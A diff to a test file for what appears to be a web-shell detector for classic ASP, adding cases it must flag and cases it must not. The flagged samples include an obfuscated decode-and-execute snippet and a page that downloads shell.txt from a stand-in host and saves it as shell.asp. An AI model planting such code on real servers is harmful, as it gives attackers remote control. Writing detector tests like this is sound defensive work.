@@ -126,6 +126,14 @@ describe('classic ASP', () => {
       'ExecuteGlobal of code kept in a string that reads a name filled from the request',
       '<%\nv = request("p")\nc = "Ex" & "ecute" & "(v)"\nExecuteGlobal(c)\n%>',
     ],
+    [
+      'Execute of what a decoder of its own gives for a carried string edited in place',
+      '<%\nc = "k#BJc&E(K>;Qmf"\nc = Replace(c, "~", Chr(37) & ">")\ncode = Decrypt(c, "TNT")\nSession("x") = code\nexecute(Session("x"))\nFunction Decrypt(s, k)\nDecrypt = StrReverse(s)\nEnd Function\n%>',
+    ],
+    [
+      'a page saving what it downloads from a URL as a server page',
+      '<%\nSet x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET","http://example.test/shell.txt",0\nx.Send()\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open()\ns.Write(x.responseBody)\ns.SaveToFile "D:\\site\\html\\shell.asp",2\n%>',
+    ],
   ])('calls %s a web shell', (_, text) => {
     expect(judge('/opt/x.asp', text)).toMatchObject({
       severity: 'critical',
@@ -222,6 +230,14 @@ describe('classic ASP', () => {
     [
       'a page searching a field with a regular expression',
       '<% Set re = New RegExp\nre.Pattern = "\\d+"\nSet m = re.Execute(Request.Form("q"))\nResponse.Write m.Count %>',
+    ],
+    [
+      'a template engine executing what it parses from a template file, edited in place',
+      '<%\nid = Request("id")\nt = LoadFile("tpl/page.htm")\nt = Replace(t, "{", "<")\ncode = Parse(t)\nExecute code\nFunction Parse(s)\nParse = s\nEnd Function\n%>',
+    ],
+    [
+      'an installer saving the files its release list names, and its list',
+      '<%\nSet x = Server.CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", "http://update.example.test/Release.xml", False\nx.Send\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1: s.Open: s.Write x.responseBody\ns.SaveToFile Server.MapPath(".") & "\\" & "Release.xml", 2\nFor Each item In list\ns.SaveToFile Server.MapPath(".") & "\\" & item.getAttributeNode("name").Value, 2\nNext\n%>',
     ],
   ])('does not call %s a web shell', (_, text) => {
     expect(judge('/opt/y.asp', text)?.severity ?? 'none').not.toMatch(/high|critical/);
